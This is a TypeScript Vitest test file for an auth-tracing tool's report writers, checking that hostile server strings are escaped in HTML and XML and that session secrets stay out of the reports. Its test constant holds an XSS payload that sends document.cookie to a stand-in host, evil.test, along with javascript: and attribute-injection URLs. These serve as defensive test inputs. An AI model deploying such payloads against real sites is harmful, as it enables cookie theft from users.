// Every string a server chose reaches the reports as text: escaped in HTML, escaped in XML, never a
// tag, an attribute or a link, and no secret of the session in any of them.
import { describe, expect, it } from 'vitest';
import { junitProblems, sarifValidator } from '../../electron/test-support/report-schemas.js';
import { runDiagnostics } from '../diagnostics/index.js';
import { fullSession, SECRETS } from '../har/test-support/session.js';
import type { MatrixReport, ProbeReport } from '../contract.js';
import type { Session } from '../model.js';
import { html, vettedHttpUrl, xml } from './escape.js';
import { reportHtml } from './html.js';
import { junitXml } from './junit.js';
import { sarifLog } from './sarif.js';
import { redactedHar, type ReportSubject } from './subject.js';

const ATTACK = `</script><img src=x onerror="fetch('//evil.test/'+document.cookie)"><style>*{background:url(//evil.test/css)}</style>"'&\u0000\u001b[2J\ud800`;
const tool = { name: 'Authtrace', version: '0.1.0' } as const;
const when = { startedAt: '2026-01-02T03:04:05.000Z', durationMs: 1234 };

function hostileSession(): Session {
  const session = fullSession();
  return {
    ...session,
    steps: session.steps.map((s) => (s.name === 'token' ? { ...s, status: 'failed', error: { code: 'TOKEN_REJECTED', message: `rejected: ${ATTACK}`, hint: ATTACK }, summary: ATTACK } : s)),
    exchanges: session.exchanges.map((e, i) =>
      i === 0 && e.outcome === 'response'
        ? { ...e, request: { ...e.request, url: `${e.request.url}?q=${encodeURIComponent(ATTACK.replace("\ud800", ""))}` }, response: { ...e.response, statusText: ATTACK, headers: [...e.response.headers, { name: 'x-attack', value: ATTACK }], body: ATTACK } }
        : e,
    ),
  };
}

function flowSubject(): ReportSubject {
  const session = hostileSession();
  return { command: 'run', tool, ...when, source: 'https://mcp.example.test/mcp', har: redactedHar(session, runDiagnostics(session), tool), threshold: 'error' };
}

const matrixReport: MatrixReport = {
  server: `https://mcp.example.test/${ATTACK}`,
  clients: [{ id: 'x', name: ATTACK, version: ATTACK, sessions: [{ pass: 'first', flow: 'failed', failedStep: 'token', rules: ['AM-03'], message: ATTACK, sessionId: 's1' }] }],
};

const probeReport: ProbeReport = {
  server: 'https://mcp.example.test/mcp',
  tokenEndpoint: `https://as.example.test/token?${ATTACK}`,
  advertised: [ATTACK],
  methods: [{ method: 'none', advertised: false, registered: ATTACK, accepted: 'accepted', alsoAcceptedWith: [ATTACK], attempts: [{ with: 'none', verdict: 'accepted', why: ATTACK, exchangeId: 'e1' }] }],
  unknownClient: { answer: ATTACK, exchangeId: 'e2' },
  registrationChecks: [{ name: ATTACK, accepted: true, answer: ATTACK, exchangeId: 'e3' }],
  garbageToken: { answer: ATTACK, exchangeId: 'e4' },
  authorizationChecks: [{ probe: 'PRB-10', name: ATTACK, result: 'fail', why: ATTACK, exchangeId: 'e5' }],
  findings: [{ id: 'PRB-01', severity: 'warning', message: ATTACK, exchangeIds: ['e1'] }, { id: 'PRB-10', severity: 'error', message: ATTACK, exchangeIds: ['e5'] }],
  discovery: [{ rule: 'AM-02', severity: 'error', title: ATTACK }],
  sessionId: 's2',
};

const subjects: [string, ReportSubject][] = [
  ['run', flowSubject()],
  ['matrix', { command: 'matrix', tool, ...when, report: matrixReport }],
  ['probe', { command: 'probe', tool, ...when, report: probeReport, threshold: 'error' }],
];

describe('hostile strings in the reports', () => {
  it.each(subjects)('%s: the HTML holds the attack as text only, and no tag, style or URL of it', (_, subject) => {
    const page = reportHtml(subject);
    expect(page).toContain('&lt;/script&gt;&lt;img src=x onerror=&quot;fetch(&#39;//evil.test/&#39;+document.cookie)&quot;&gt;');
    expect(page).not.toMatch(/<img|<script|<style>\*|<[a-z]+[^>]* onerror=/i);
    // One style element: ours.
    expect(page.match(/<style>/g)).toHaveLength(1);
    expect(page).not.toMatch(/[\u0000\u001b]/);
    expect(page).not.toMatch(/href="(?!#|https?:)/);
  });

  it.each(subjects)('%s: JUnit stays valid against its XSD, SARIF against its schema', async (_, subject) => {
    const junit = junitXml(subject);
    expect(await junitProblems(junit)).toEqual([]);
    expect(junit).not.toMatch(/<img|<script|[\u0000\u001b]/);
    expect(sarifValidator()(JSON.parse(JSON.stringify(sarifLog(subject))))).toEqual([]);
  });

  it('no secret of the session reaches any report', () => {
    const subject = flowSubject();
    const texts = [reportHtml(subject), junitXml(subject), JSON.stringify(sarifLog(subject))];
    for (const secret of [SECRETS.clientSecret, SECRETS.code, SECRETS.verifier, SECRETS.accessToken, SECRETS.refreshToken, SECRETS.registrationToken, SECRETS.password])
      for (const text of texts) expect(text).not.toContain(secret);
  });

  it('a failed step is a failed testcase with its code; the run lists its steps', () => {
    const junit = junitXml(flowSubject());
    expect(junit).toMatch(/<testcase classname="authtrace\.run\.steps" name="token" time="[\d.]+">\n {4}<failure type="TOKEN_REJECTED" message="rejected: &lt;\/script&gt;/);
    expect(junit).toContain('<testcase classname="authtrace.run.steps" name="probe"');
  });

  it('escapes: HTML and XML replace markup characters and controls; only absolute http(s) URLs without credentials are links', () => {
    expect(html(`<a href="x">'&`)).toBe('&lt;a href=&quot;x&quot;&gt;&#39;&amp;');
    expect(xml('a\u0000b\u0008c\ud800')).toBe('a\\u0000b\\u0008c\\ud800');
    expect(xml('😀')).toBe('😀');
    expect(vettedHttpUrl('javascript:alert(1)')).toBeUndefined();
    expect(vettedHttpUrl('data:text/html,<b>')).toBeUndefined();
    expect(vettedHttpUrl('https://user:pw@example.test/')).toBeUndefined();
    expect(vettedHttpUrl('/relative')).toBeUndefined();
    expect(vettedHttpUrl('https://www.rfc-editor.org/rfc/rfc8414#section-3"onmouseover=x')).toBe('https://www.rfc-editor.org/rfc/rfc8414#section-3%22onmouseover=x');
  });
});
